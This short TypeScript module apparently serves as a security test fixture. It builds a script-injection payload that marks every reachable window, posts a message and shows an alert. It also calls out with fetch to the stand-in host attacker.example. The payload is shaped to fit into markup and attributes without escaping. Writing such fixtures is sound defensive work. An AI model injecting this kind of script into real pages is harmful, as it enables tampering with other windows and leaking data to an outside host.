/**
 * Script that leaves a mark in every window it can reach, opens a dialog and calls home. It holds neither `<`, `&` nor
 * double quotes, so that it fits into markup and attributes as it is.
 */
export const payload = (mark: string): string =>
  `for(const w of [globalThis,globalThis.parent,globalThis.top,globalThis.opener])try{w.deskPayload='${mark}'}catch{}` +
  `try{fetch('https://attacker.example/${mark}')}catch{};try{postMessage('deskPayload ${mark}')}catch{};` +
  `try{alert('desk-payload')}catch{}`

/** Where what must never be fetched would come from. */
export const elsewhere = (path: string): string => `https://attacker.example/${path}`
